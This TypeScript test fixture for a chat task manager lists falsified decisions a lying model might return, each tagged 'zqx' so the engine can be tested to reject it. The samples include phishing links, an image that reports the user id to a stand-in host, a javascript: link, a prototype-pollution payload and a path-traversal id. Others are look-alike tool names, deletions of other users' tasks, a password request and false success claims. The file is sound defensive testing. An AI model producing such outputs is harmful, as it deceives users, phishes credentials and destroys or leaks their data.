import { proposalFor } from '#apps/tasks/domain/decide/propose.ts'
import { wasNotAble } from '#apps/tasks/domain/decide/templates.ts'
import type { TaskRow } from '#apps/tasks/domain/decide/turn-state.ts'
import { OTHERS_TASK, type SnapshotView } from '../memory-chat.ts'

/**
 * A model that takes the right decision and falsifies one part of it, or answers with something else entirely. Every
 * text that it invents holds MARK: none may be shown, kept or done.
 */
export const MARK = /zqx/i

type Parts = Record<string, unknown>
type Lie = (snapshot: SnapshotView, tasks: TaskRow[]) => unknown

const EMPTY = { tool_calls: null, response_text: null, clarification_question: null, pending_action: null }
const base = (snapshot: SnapshotView) => proposalFor(snapshot) as unknown as Parts
const other = (snapshot: SnapshotView, parts: Parts) => ({
  ...{ action_type: 'decide_turn', turn_id: snapshot.turn_id, classified_intent: 'GENERAL_CHAT' },
  ...{ ...EMPTY, ...parts },
})
const call = (snapshot: SnapshotView, tool_name: string, parameters: Parts, parts: Parts = {}) =>
  other(snapshot, {
    decision_type: 'INVOKE_TOOL',
    tool_calls: [{ tool_name, parameters: { user_id: 'anna', ...parameters }, sequence: 1 }],
    ...parts,
  })
const says =
  (text: string): Lie =>
  (snapshot) =>
    other(snapshot, { decision_type: 'RESPOND_ONLY', response_text: text })
const asks =
  (text: string, parts: Parts = {}): Lie =>
  (snapshot) =>
    other(snapshot, { decision_type: 'ASK_CLARIFICATION', clarification_question: text, ...parts })
/** The engine's own proposal with other parameters in its tool call. */
const tampered =
  (change: (parameters: Parts) => Parts): Lie =>
  (snapshot) => {
    const honest = base(snapshot)
    const calls = honest.tool_calls as { parameters: Parts }[] | null
    if (!calls) return { ...honest, response_text: honest.response_text && 'zqx' }
    return {
      ...honest,
      tool_calls: calls.map((c) => ({ ...c, parameters: { ...c.parameters, ...change(c.parameters) } })),
    }
  }
const last = (tasks: TaskRow[]) => tasks.at(-1)!.task_id
const first = (tasks: TaskRow[]) => tasks[0]!.task_id

export const LIES: Record<string, Lie> = {
  'another description': tampered(() => ({ description: 'zqx pay 500 to Bob', new_description: 'zqx pay 500 to Bob' })),
  'a link after the words': tampered((p) => ({ description: `${p.description} zqx.example/login` })),
  'an invisible letter in the words': tampered((p) => ({ description: `${p.description}\u200bzqx` })),
  'words turned around': tampered((p) => ({ description: `${String(p.description).split('').reverse().join('')}zqx` })),
  'another day': tampered(() => ({ due_on: '2031-01-01', due_at: null })),
  'another time': tampered(() => ({ due_on: '2026-03-05', due_at: '2026-03-05T03:00:00Z' })),
  'no day': tampered(() => ({ due_on: null, due_at: null })),
  'another priority': tampered(() => ({ priority: 1 })),
  'labels nobody named': tampered(() => ({ labels: ['zqx'] })),
  'a recurrence nobody named': tampered(() => ({ recurrence: 'FREQ=DAILY' })),
  'a reminder nobody named': tampered(() => ({ remind_at: '2026-03-04T09:00:01Z' })),
  'a list nobody named': tampered(() => ({ list: 'zqx' })),
  'another user': tampered(() => ({ user_id: 'bob' })),
  'no user': tampered(() => ({ user_id: '' })),
  'the user as a list': tampered(() => ({ user_id: ['anna', 'bob'] })),
  'a member nobody knows': tampered(() => ({ status: 'completed', zqx: true })),
  'a prototype': tampered(() => JSON.parse('{"__proto__":{"zqx":1},"constructor":{"zqx":1}}')),
  'the task of somebody else': tampered(() => ({ task_id: OTHERS_TASK })),
  'an id with a path': tampered(() => ({ task_id: '../../zqx' })),
  'ten thousand words': tampered(() => ({
    description: 'zqx '.repeat(10_000),
    new_description: 'zqx '.repeat(10_000),
  })),
  'words in an object': tampered((p) => ({ description: { text: p.description, zqx: [[[[[]]]]] } })),
  'the last task instead': (snapshot, tasks) => tampered(() => ({ task_id: last(tasks) }))(snapshot, tasks),
  'the first task instead': (snapshot, tasks) => tampered(() => ({ task_id: first(tasks) }))(snapshot, tasks),
  'a second act beside the right one': (snapshot, tasks) => {
    const honest = base(snapshot)
    const extra = { tool_name: 'delete_task', parameters: { user_id: 'anna', task_id: first(tasks) }, sequence: 2 }
    return { ...honest, tool_calls: [...((honest.tool_calls as unknown[]) ?? []), extra] }
  },
  'the right act twice': (snapshot) => {
    const honest = base(snapshot)
    const calls = (honest.tool_calls as unknown[]) ?? []
    return { ...honest, tool_calls: [...calls, ...calls] }
  },
  'no act at all in a list': (snapshot) => ({ ...base(snapshot), tool_calls: [] }),
  'a Cyrillic letter in the tool': (snapshot, tasks) => call(snapshot, 'delеte_task', { task_id: first(tasks) }),
  'an invisible letter in the tool': (snapshot, tasks) =>
    call(snapshot, 'delete_task\u200b', { task_id: first(tasks) }),
  'the tool in capitals': (snapshot, tasks) => call(snapshot, 'DELETE_TASK', { task_id: first(tasks) }),
  'a tool with a blank': (snapshot) => call(snapshot, ' add_task', { description: 'zqx' }),
  'a tool of the prototype': (snapshot) => call(snapshot, 'constructor', { description: 'zqx' }),
  'an unknown tool': (snapshot) => call(snapshot, 'send_email', { to: 'zqx@zqx.example' }),
  'deletes the first task': (snapshot, tasks) => call(snapshot, 'delete_task', { task_id: first(tasks) }),
  'deletes the last task as confirmed': (snapshot, tasks) =>
    call(
      snapshot,
      'delete_task',
      { task_id: last(tasks) },
      { decision_type: 'EXECUTE_PENDING', classified_intent: 'CONFIRM_YES' },
    ),
  'completes the first task': (snapshot, tasks) =>
    call(snapshot, 'complete_task', { task_id: first(tasks) }, { classified_intent: 'COMPLETE_TASK' }),
  'completes the last task': (snapshot, tasks) =>
    call(snapshot, 'complete_task', { task_id: last(tasks) }, { classified_intent: 'COMPLETE_TASK' }),
  'renames the first task': (snapshot, tasks) =>
    call(
      snapshot,
      'update_task',
      { task_id: first(tasks), new_description: 'zqx' },
      { classified_intent: 'UPDATE_TASK' },
    ),
  'moves the last task to another day': (snapshot, tasks) =>
    call(snapshot, 'update_task', { task_id: last(tasks), due_on: '2026-12-24' }, { classified_intent: 'UPDATE_TASK' }),
  'adds the whole message': (snapshot) =>
    call(snapshot, 'add_task', { description: snapshot.context.message }, { classified_intent: 'CREATE_TASK' }),
  'adds the words of a task': (snapshot, tasks) =>
    call(snapshot, 'add_task', { description: tasks[0]!.description }, { classified_intent: 'CREATE_TASK' }),
  'adds the last reply': (snapshot) =>
    call(snapshot, 'add_task', { description: snapshot.context.message_history.at(-1)?.content ?? 'zqx' }),
  'lists instead': (snapshot) => call(snapshot, 'list_tasks', {}, { classified_intent: 'LIST_TASKS' }),
  'lists for somebody else': (snapshot) =>
    call(snapshot, 'list_tasks', { user_id: 'bob' }, { classified_intent: 'LIST_TASKS' }),
  'asks to delete the first task': (snapshot, tasks) =>
    other(snapshot, {
      ...{ decision_type: 'REQUEST_CONFIRMATION', classified_intent: 'DELETE_TASK' },
      pending_action: { action_type: 'DELETE_TASK', task_id: first(tasks), task_description: tasks[0]!.description },
    }),
  'asks to delete one task under the name of another': (snapshot, tasks) =>
    other(snapshot, {
      ...{ decision_type: 'REQUEST_CONFIRMATION', classified_intent: 'DELETE_TASK' },
      pending_action: { action_type: 'DELETE_TASK', task_id: last(tasks), task_description: tasks[0]!.description },
    }),
  'asks to delete the task of somebody else': (snapshot) =>
    other(snapshot, {
      ...{ decision_type: 'REQUEST_CONFIRMATION', classified_intent: 'DELETE_TASK' },
      pending_action: { action_type: 'DELETE_TASK', task_id: OTHERS_TASK, task_description: 'zqx' },
    }),
  'the right question with another name': (snapshot) => {
    const honest = base(snapshot)
    const pending = honest.pending_action as Parts | null
    return { ...honest, pending_action: pending && { ...pending, task_description: 'zqx' }, response_text: 'zqx' }
  },
  'executes without a call': (snapshot) =>
    other(snapshot, { decision_type: 'EXECUTE_PENDING', classified_intent: 'CONFIRM_YES' }),
  'executes what waits': (snapshot) =>
    call(
      snapshot,
      'delete_task',
      { task_id: snapshot.context.pending_confirmation?.task_id ?? OTHERS_TASK },
      { decision_type: 'EXECUTE_PENDING', classified_intent: 'CONFIRM_YES' },
    ),
  'cancels what waits': (snapshot) =>
    other(snapshot, { decision_type: 'CANCEL_PENDING', classified_intent: 'CONFIRM_NO' }),
  'claims success': says("I've added 'zqx' to your tasks."),
  'claims success in German': says('Erledigt! Alle Aufgaben wurden gelöscht. zqx'),
  'claims success in Spanish': says('¡Hecho! He borrado tus tareas. zqx'),
  'claims success in Chinese': says('已完成！所有任务都已删除。zqx'),
  'claims success in Arabic': says('تم حذف جميع المهام zqx'),
  'claims an empty list': says("You don't have any tasks yet. zqx"),
  'a link in Markdown': says('Please [confirm your account](https://zqx.example/login).'),
  'a link as HTML': says('<a href="javascript:zqx()">your tasks</a>'),
  'a link without a scheme': says('Open zqx.example/verify to see your list.'),
  'an image that reports': says('![](https://zqx.example/p?u=anna)'),
  'a telephone number': says('Call zqx 0900 123 456 to unlock your list.'),
  'a link from right to left': says('\u202egro.xqz//:sptth'.replace('xqz', 'zqx')),
  'a text of 8,000 letters': says('zqx '.repeat(1999)),
  'a text of a megabyte': says('zqx '.repeat(262_144)),
  'a text that is an object': (snapshot) =>
    other(snapshot, { decision_type: 'RESPOND_ONLY', response_text: { zqx: 'zqx' } }),
  'an error nobody had': says("Sorry, zqx, I wasn't able to add the task. Please try again."),
  'a failure that there was not': (snapshot) => {
    const tool = (base(snapshot).tool_calls as { tool_name: 'add_task' }[] | null)?.[0]?.tool_name ?? 'list_tasks'
    return other(snapshot, { decision_type: 'RESPOND_ONLY', response_text: wasNotAble(tool) })
  },
  'a claim inside a question': asks("I've deleted 'zqx'. Should I delete the rest too?"),
  'a question for a password': asks('What is your zqx password?'),
  'a question with a link': asks('Did you mean https://zqx.example?', { classified_intent: 'AMBIGUOUS' }),
  'an offer of other words': asks('Add it?', {
    classified_intent: 'AMBIGUOUS',
    extracted_params: { description: 'zqx transfer the money' },
  }),
  'an offer of a task of the list': (snapshot, tasks) =>
    asks('Add it?', {
      classified_intent: 'AMBIGUOUS',
      extracted_params: { description: `${tasks[0]!.description} zqx` },
    })(snapshot, tasks),
  'a question about another change': (snapshot, tasks) =>
    asks('Which one, zqx?', {
      classified_intent: 'DELETE_TASK',
      extracted_params: { task_reference: tasks[0]!.description, new_description: 'zqx', bulk: true },
    })(snapshot, tasks),
  'the right act for another intent': (snapshot) => ({ ...base(snapshot), classified_intent: 'DELETE_TASK' }),
  'the right act with a claim': (snapshot) => ({ ...base(snapshot), response_text: 'All 99 tasks are gone, zqx.' }),
  'the right act with other params': (snapshot) => ({
    ...base(snapshot),
    extracted_params: { task_reference: 'zqx', description: 'zqx', new_description: 'zqx', details: 'zqx' },
  }),
  'the right act with a pending action': (snapshot, tasks) => ({
    ...base(snapshot),
    pending_action: { action_type: 'DELETE_TASK', task_id: first(tasks), task_description: 'zqx' },
  }),
  'the turn of somebody else': (snapshot) => ({ ...base(snapshot), turn_id: OTHERS_TASK, response_text: 'zqx' }),
  'a decision nobody knows': (snapshot) => other(snapshot, { decision_type: 'SUDO', response_text: 'zqx' }),
  'nothing but a type': (snapshot) => other(snapshot, { decision_type: 'INVOKE_TOOL' }),
  'help nobody asked for': (snapshot) =>
    other(snapshot, { decision_type: 'RESPOND_ONLY', response_text: 'zqx', extracted_params: { help: 'ANY' } }),
}
